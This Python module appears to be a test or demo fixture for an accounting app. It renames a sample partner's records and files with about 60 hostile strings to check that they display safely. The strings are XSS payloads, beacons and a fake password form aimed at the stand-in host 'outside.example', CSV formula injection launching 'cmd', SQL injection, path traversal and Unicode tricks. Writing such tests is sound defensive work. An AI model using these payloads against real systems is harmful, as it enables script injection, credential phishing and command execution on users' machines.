"""60 names that try to be more than a name, and a partner all of whose customers, cases, plans and products are called so."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

from clearaccounts.importing import publish
from clearaccounts.importing.canonical import kinds
from clearaccounts.settings import ROOT, DataFolder, Settings

# What a name would leave behind if it were run, drawn or asked for: a global, a title, a request to this host.
CANARY, TITLE, HOST = "__pwned", "pwned", "outside.example"
_RUN = f"window.{CANARY}=1;document.title='{TITLE}'"
_TOWER = "".join(chr(code) for code in range(0x300, 0x340))
NAMES = (
    f"<script>{_RUN}</script>", f"</title><script>{_RUN}</script>", f"<img src=x onerror=\"{_RUN}\">", f"<svg onload=\"{_RUN}\">",
    f"<svg><script>{_RUN}</script></svg>", f"<body onload=\"{_RUN}\">", f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\"></iframe>",
    f"<iframe src=\"javascript:{_RUN}\"></iframe>", f"<a href=\"javascript:{_RUN}\">Pay here</a>", f"<details open ontoggle=\"{_RUN}\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{_RUN}\">", f"\"><script>{_RUN}</script>", f"' onmouseover='{_RUN}' x='",
    f"<input autofocus onfocus=\"{_RUN}\">", f"<video><source onerror=\"{_RUN}\"></video>",
    f"<object data=\"javascript:{_RUN}\"></object>", f"<img src=\"http://{HOST}/image.png\">",
    f"<link rel=stylesheet href=\"http://{HOST}/a.css\">", f"<base href=\"http://{HOST}/\">",
    f"<form action=\"http://{HOST}/\"><input name=password><button>Sign in</button></form>", "<style>body{display:none}</style>",
    f"<style>@import 'http://{HOST}/a.css';</style>", f"<meta http-equiv=\"refresh\" content=\"0;url=http://{HOST}/\">",
    f"<div style=\"position:fixed;inset:0;background:url(http://{HOST}/b)\">covered</div>", "<!-- swallowed", "<plaintext>",
    "</div></div></div></body>", f"![picture](http://{HOST}/p.png)", f"[![x](http://{HOST}/q.png)](http://{HOST}/)",
    f"[Open](http://{HOST}/ \"hint\")", f"http://{HOST}/bare", f"[x](javascript:{_RUN})", f"<http://{HOST}/auto>",
    f"![x][1]\n\n[1]: http://{HOST}/r.png", "# Heading\n\n- item\n\n---", "```\ncode\n```", "| a | b |\n|---|---|\n| 1 | 2 |",
    "**bold** _thin_ ~~gone~~ `code`", ":material/delete_forever: :red[red] :rainbow[all]", ":streamlit: :+1: :smile:",
    "$\\frac{1}{0}$ $$\\href{javascript:alert(1)}{x}$$", ":blue-badge[Paid] :small[x]",
    f"<b>Bold</b><br><a href=\"http://{HOST}/c\">Chart</a>", "%{customdata} %{y} {0.__class__} {name} %(who)s ${x} {{7*7}}",
    f"data:text/html,<script>{_RUN}</script>", f"javascript:{_RUN}", "=HYPERLINK(\"http://outside.example/\",\"Pay\")",
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1", "\u202egnp.eciovni\u202c \u2066isolated\u2069",
    "zero\u200b\u200c\u200d\u2060\ufeffwidth", f"tower Z{_TOWER * 6} and o{_TOWER}", "\u00a0\u3000 spaces \u2003", "x" * 10_000,
    "many words " * 900, "\ufdfa" * 40 + "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 10, "null",
    "\x7f\x1b[31mred\x07", "'; drop table customers; --",
)
# The last day of the sample: the pages show it as of then.
IMPORTED_AT = datetime(2026, 9, 30, 20, tzinfo=UTC)
# Texts with a meaning of their own: who may see what, where, in which language, and what Microsoft calls it.
_MEANT = {
    "country_code", "sales_agent", "microsoft_tenant_id", "time_zone", "language", "microsoft_subscription_id", "sku_id", "billing_cycle",
    "service_request_status", "document_type", "invoice_type", "domain_name", "contact_email",
}
# Ids that stand in addresses, tables and titles, called otherwise wherever they are named.
IDS = {
    "C0001": "C0001\"><img src=x onerror=alert(1)>", "C0017": "../../C0017?a=b&c=d#e", "C0002": "C0002'; drop table customers; --",
    "INV-2608-0001": "INV <b>1</b> **x**", "INV-2607-0002": "=1+1|INV", "CASE-0004-017": "{0.__class__} :red[x] <svg/onload=alert(1)>",
    "CASE-0001-010": f"![x](http://{HOST}/case.png)", "PSFP-2025": f"<a href=\"http://{HOST}/plan\">PSFP</a>",
    "SUB-0005-003": "SUB $x$ <i>",
}


def renamed(kind: str, rows: list[dict[str, str]]) -> Iterator[dict[str, str]]:
    """The rows of one canonical file with a hostile text wherever a text may stand."""
    free = [
        column.name for column in kinds()[kind].columns
        if column.form == "text" and not column.choices and not column.name.endswith("_id") and column.name not in _MEANT
    ]
    for number, row in enumerate(rows):
        changed = {name: NAMES[(number + 7 * place) % len(NAMES)] for place, name in enumerate(free) if row.get(name)}
        ids = {name: IDS[value] for name, value in row.items() if name.endswith("_id") and value in IDS}
        yield {**row, **changed, **ids}


def write_files(folder: Path) -> list[Path]:
    """The sample partner's files, called names."""
    paths = []
    for path in sorted((ROOT / "sample_data").glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.DictReader(file))
        # The file's own name is text of others too.
        target = folder / f"{path.stem} {{0}} <img src=x onerror=alert(1)> **x** =1+1.csv"
        with target.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(rows[0]))
            writer.writeheader()
            writer.writerows(renamed(path.stem, rows))
        paths.append(target)
    return paths


def import_all(folder: DataFolder, files: Path) -> publish.Report:
    """Import the partner into an empty folder."""
    return publish.import_files(folder, Settings(), write_files(files), IMPORTED_AT, by="demo:beatriz", confirm=lambda _: True)
